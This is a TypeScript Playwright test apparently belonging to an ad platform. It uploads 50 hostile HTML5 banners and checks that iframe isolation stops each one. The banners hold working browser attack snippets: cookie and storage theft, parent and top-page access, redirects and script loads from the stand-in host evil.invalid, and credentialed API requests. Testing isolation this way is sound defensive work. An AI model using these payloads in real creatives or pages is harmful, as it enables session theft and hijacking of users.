import type { Frame } from "playwright-core";
import { afterAll, beforeAll, expect, inject, test } from "vitest";
import { closeBrowser, newVisitor, type Visitor } from "../support/browser.ts";
import { callApi } from "../support/call-api.ts";

let visitor: Visitor;
const secret = "only-for-the-app";
const evil = "https://evil.invalid/";
const hostile: string[] = [];

/** The attacks of a hostile banner. `got(value)` reports an unauthorized access; `app` is the application's origin. */
const attempts: [what: string, code: string][] = [
  ["read the cookies", "got(document.cookie)"],
  ["read the local storage", "got(localStorage.getItem('secret'))"],
  ["read the session storage", "got(sessionStorage.getItem('secret'))"],
  ["list the databases", "indexedDB.open('x').onsuccess = () => got('database')"],
  ["list the caches", "caches.keys().then(() => got('caches'))"],
  ["write a cookie", "document.cookie = 'planted=1'; got(document.cookie)"],
  ["read the page around", "got(parent.document.body.innerHTML)"],
  ["read the storage of the page around", "got(parent.localStorage.secret)"],
  ["read the cookies of the page around", "got(parent.document.cookie)"],
  ["read the title of the top page", "got(top.document.title)"],
  ["read a variable of the page around", "got(parent.secret)"],
  ["call a function of the page around", "got(parent.fetch('/api/v1/users/me'))"],
  ["read the address of the page around", "got(parent.location.href)"],
  ["read the element that holds it", "got(frameElement.ownerDocument.title)"],
  ["change a variable of the page around", "parent.secret = 'changed'; got('changed')"],
  ["send the top page away by location", `top.location = '${evil}'`],
  ["send the top page away by href", `top.location.href = '${evil}'`],
  ["send the top page away by replace", `top.location.replace('${evil}')`],
  ["send the top page away by assign", `top.location.assign('${evil}')`],
  ["send the page around away", `parent.location = '${evil}'`],
  ["open an address in the top page", `open('${evil}', '_top')`],
  ["open an address in the page around", `open('${evil}', '_parent')`],
  ["click a link to the top page", `element('a', {href: '${evil}', target: '_top'}).click()`],
  ["click a link to the page around", `element('a', {href: '${evil}', target: '_parent'}).click()`],
  ["submit a form to the top page", `element('form', {action: '${evil}', target: '_top'}).submit()`],
  ["submit a form to the API", "element('form', {action: app + '/api/v1/users/me', method: 'post'}).submit()"],
  [
    "run script in the top page by a link",
    `element('a', {href: "javascript:top.location='${evil}'", target: '_top'}).click()`,
  ],
  ["run script in the page around by its address", `parent.location = "javascript:document.title='taken'"`],
  [
    "refresh to a script",
    `element('meta', {'http-equiv': 'refresh', content: "0;url=javascript:top.location='${evil}'"})`,
  ],
  [
    "move the base of addresses",
    `element('base', {href: '${evil}', target: '_top'}); element('a', {href: 'x'}).click()`,
  ],
  [
    "read the application in a frame",
    "const f = element('iframe', {src: app + '/dashboard'}); f.onload = () => got(f.contentDocument?.title)",
  ],
  [
    "reach out of a frame of its own",
    "element('iframe', {srcdoc: `<script>try { parent.got(top.document.title) } catch {}<\\/script>`})",
  ],
  ["run script by a frame's address", "element('iframe', {src: \"javascript:parent.got(top.document.title)\"})"],
  [
    "show the application in an object",
    "const o = element('object', {data: app + '/dashboard'}); o.onload = () => got(o.contentDocument?.title)",
  ],
  [
    "show the application in an embed",
    "const e = element('embed', {src: app + '/dashboard'}); e.onload = () => got('embed')",
  ],
  [
    "load a script of the application",
    "const s = element('script', {src: app + '/api/v1/users/me'}); s.onload = () => got('script')",
  ],
  ["load a script from outside", `const s = element('script', {src: '${evil}x.js'}); s.onload = () => got('script')`],
  ["fetch from the API", "fetch(app + '/api/v1/users/me', {credentials: 'include'}).then((r) => got(r.type))"],
  [
    "fetch without reading",
    "fetch(app + '/api/v1/users/me', {credentials: 'include', mode: 'no-cors'}).then((r) => got(r.type))",
  ],
  [
    "ask by XMLHttpRequest",
    "const x = new XMLHttpRequest(); x.open('GET', app + '/api/v1/users/me'); x.onload = () => got(x.responseText); x.send()",
  ],
  ["open a web socket", "new WebSocket(app.replace('http', 'ws')).onopen = () => got('socket')"],
  ["listen to events of the server", "new EventSource(app + '/api/v1/users/me').onopen = () => got('events')"],
  [
    "carry data out in a picture",
    `const i = new Image(); i.onload = () => got('picture'); i.src = app + '/favicon.svg'`,
  ],
  [
    "carry data out in a style",
    "const l = element('link', {rel: 'stylesheet', href: app + '/x.css'}); l.onload = () => got('style')",
  ],
  ["register a service worker", "navigator.serviceWorker.register('/tag.js').then(() => got('service worker'))"],
  [
    "start a worker that fetches",
    "const w = new Worker(URL.createObjectURL(new Blob([`fetch('` + app + `/api/v1/users/me').then(() => postMessage(1))`]))); w.onmessage = () => got('worker')",
  ],
  ["listen to the application's channel", "new BroadcastChannel('app').onmessage = (m) => got(m.data)"],
  [
    "pretend to be the application in a message",
    "parent.postMessage({kind: 'navigate', to: 'https://evil.invalid', secret: 'changed'}, '*'); onmessage = (m) => got(m.data)",
  ],
  [
    "read the application in a window of its own",
    "const w = open(app + '/dashboard'); setTimeout(() => got(w.document.title), 200)",
  ],
  [
    "reach the top page from a window of its own",
    `const w = open('about:blank'); w.document.write("<script>try { opener.top.location = '${evil}' } catch {}<\\/script>")`,
  ],
];

const banner = (code: string, app: string): string => `<!doctype html><html><head>
<meta name="ad.size" content="width=300,height=250"><script>var clickTag = "";</script></head><body><script>
const app = ${JSON.stringify(app)};
window.got = (value) => { if (value) window.loot = String(value); };
const element = (name, attributes) => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
  document.body.append(made);
  return made;
};
addEventListener("unhandledrejection", (event) => event.preventDefault());
try { ${code} } catch (error) { window.refused = String(error); }
window.tried = true;
</script></body></html>`;

beforeAll(async () => {
  visitor = await newVisitor();
  await visitor.signIn("tech_admin");
});
afterAll(async () => {
  // No other journey may see these banners.
  const page = await visitor.context.newPage();
  await page.goto("/account");
  for (const uuid of hostile) await callApi(page, "DELETE", `/creatives/${uuid}`);
  await visitor.leave();
  closeBrowser();
});

test("50 attacks of a hostile banner reach neither the application's data nor the surrounding page nor the top page", async () => {
  const { page, context } = visitor;
  const { url: app, adsUrl } = inject("demo");
  expect(attempts).toHaveLength(50);
  await page.goto("/creatives");
  await page.getByRole("heading", { level: 1 }).waitFor();
  const before = page.url();
  const title = await page.title();
  const windows: string[] = [];
  const dialogs: string[] = [];
  context.on("page", (opened) => {
    windows.push(opened.url());
  });
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.evaluate((text) => {
    localStorage.setItem("secret", text);
    sessionStorage.setItem("secret", text);
    // biome-ignore lint/suspicious/noDocumentCookie: what a script can read is just what banners must not
    document.cookie = `secret=${text}; path=/`;
    (window as never as { secret: string }).secret = text;
    const channel = new BroadcastChannel("app");
    setInterval(() => channel.postMessage(text), 100);
  }, secret);

  for (let first = 0; first < attempts.length; first += 10) {
    const batch = attempts.slice(first, first + 10);
    const numbers = batch.map((_, index) => first + index + 1);
    for (const [index, [, code]] of batch.entries()) {
      const made = await callApi<{ uuid: string; preview_url: string }>(page, "POST", "/creatives", {
        type: "html5",
        width: 300,
        height: 250,
        title: `Attempt ${numbers[index]}`,
        html: banner(code, app),
      });
      hostile.push(made.uuid);
      // No `sandbox` on the frame: the headers of the ads origin must be sufficient.
      await page.evaluate(
        ([src, name]) => document.body.append(Object.assign(document.createElement("iframe"), { src, name })),
        [made.preview_url, `attempt-${numbers[index]}`] as const,
      );
    }
    // Windows opened by banners are in front, and browsers throttle background pages.
    await page.bringToFront();
    const frameOf = (number: number): Frame | null => page.frame({ name: `attempt-${number}` });
    const whatOf = (number: number): string => `${number}: ${attempts[number - 1]?.[0]}`;
    for (const number of numbers)
      await expect
        .poll(
          () =>
            frameOf(number)
              ?.evaluate("window.tried === true || location.protocol !== 'http:'")
              .catch(() => null),
          { message: whatOf(number), timeout: 20_000 },
        )
        .toBe(true);
    // Gives attacks with their own delays time by this clock, because timers behind an opened window may be
    // throttled.
    await page.waitForTimeout(1000);
    for (const number of numbers) {
      const what = whatOf(number);
      const seen = (await frameOf(number)?.evaluate("({origin: window.origin, loot: window.loot})")) as {
        origin: string;
        loot?: string;
      };
      expect([what, seen.loot]).toEqual([what, undefined]);
      expect([what, seen.origin]).toEqual([what, "null"]);
      if (number === 1) expect(frameOf(number)?.url()).toMatch(new RegExp(`^${adsUrl}/ad/`));
    }
    expect(page.url(), `after ${numbers.at(-1)}`).toBe(before);
    for (const opened of context.pages()) if (opened !== page) await opened.close();
    await page.evaluate(() => {
      for (const frame of document.querySelectorAll("iframe[name^=attempt]")) frame.remove();
    });
  }
  const after = await page.evaluate(() => ({
    title: document.title,
    secret: (window as never as { secret: string }).secret,
    stored: localStorage.getItem("secret"),
    cookies: document.cookie,
  }));
  expect(after).toMatchObject({ title, secret, stored: secret });
  expect(after.cookies).not.toContain("planted");
  expect(dialogs).toEqual([]);
  // The page still works, with the same user.
  expect((await callApi<{ user_role: string }>(page, "GET", "/users/me")).user_role).toBe("tech_admin");
});
